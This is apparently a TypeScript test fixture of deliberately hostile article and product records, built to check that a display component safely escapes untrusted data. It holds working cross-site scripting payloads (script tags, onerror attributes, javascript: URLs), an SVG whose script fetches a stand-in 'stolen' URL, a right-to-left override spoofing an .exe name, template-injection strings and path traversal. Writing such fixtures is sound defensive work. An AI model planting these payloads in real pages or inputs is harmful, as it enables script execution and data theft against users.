/** Records that attack whoever shows them. */
import type { Name, PlainRecord } from './oracle.js';

export const longWord = 'w'.repeat(5000);
const override = '\u202eevil\u2066 gnp.exe';
const script = '<script>globalThis.attacked = 1</script>';
const image = '"><img src=x onerror="globalThis.attacked = 1">';
const svg = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="60"><script>globalThis.attacked = 1; fetch("https://elsewhere.example/stolen")</script><image href="https://elsewhere.example/tracker.png"/></svg>')}`;

export const hostile: Record<Name, readonly PlainRecord[]> = {
  articles: [
    {
      id: 1,
      title: script,
      url: 'javascript:globalThis.attacked=1',
      score: 1,
      comments: 1,
      author: image,
      date: '2024-01-01T00:00:00Z',
      content: `${script}\n\n${image}`,
      tags: [script, image],
    },
    {
      id: 2,
      title: image,
      url: ' JavaScript:globalThis.attacked=1',
      score: 2,
      comments: 2,
      author: "' onfocus=alert(1) autofocus '",
      date: '2024-01-02T00:00:00Z',
      content: '</p></article></main><style>*{display:none}</style>',
      tags: ['"', "'", '&lt;script&gt;'],
    },
    {
      id: 3,
      title: override,
      url: `https://example.test/${override}`,
      score: 3,
      comments: 3,
      author: override,
      date: '2024-01-03T00:00:00Z',
      content: `Before ${override} after`,
      tags: [override],
    },
    {
      id: 4,
      title: longWord,
      url: `https://example.test/${longWord}`,
      score: 4,
      comments: 4,
      author: longWord,
      date: '2024-01-04T00:00:00Z',
      content: longWord,
      tags: [longWord],
    },
    {
      id: 5,
      title: '\u0000\u0007\ud800 ',
      url: '//example.test/relative',
      score: 5,
      comments: null,
      author: '',
      date: null,
      content: 'See https://example.test/a?b=<script> and javascript:alert(1).',
    },
    {
      id: 6,
      title: '{{7*7}} <%= 7*7 %> %s %n',
      url: 'http://user:secret@example.test:99999/',
      score: null,
      comments: null,
      author: null,
      date: null,
      content: null,
    },
  ],
  products: [
    {
      id: 1,
      title: script,
      author: image,
      price: 1,
      imageUrl: 'javascript:globalThis.attacked=1',
      rating: 1,
      category: script,
    },
    {
      id: 2,
      title: image,
      author: null,
      price: 2,
      imageUrl: '"><script>globalThis.attacked=1</script>',
      rating: 2,
      category: image,
    },
    { id: 3, title: override, author: override, price: 3, imageUrl: svg, rating: 3, category: override },
    {
      id: 4,
      title: longWord,
      author: longWord,
      price: 4,
      imageUrl: 'https://pictures.test/"onerror="attacked=1',
      rating: 4,
      category: longWord,
    },
    {
      id: 5,
      title: 'data:text/html',
      author: 'a',
      price: 1_234_567.89,
      imageUrl: `data:text/html,${script}`,
      rating: 5,
      category: '../..',
    },
    { id: 6, title: 'No picture at all', author: 'a', price: null, imageUrl: null, rating: null, category: null },
  ],
};
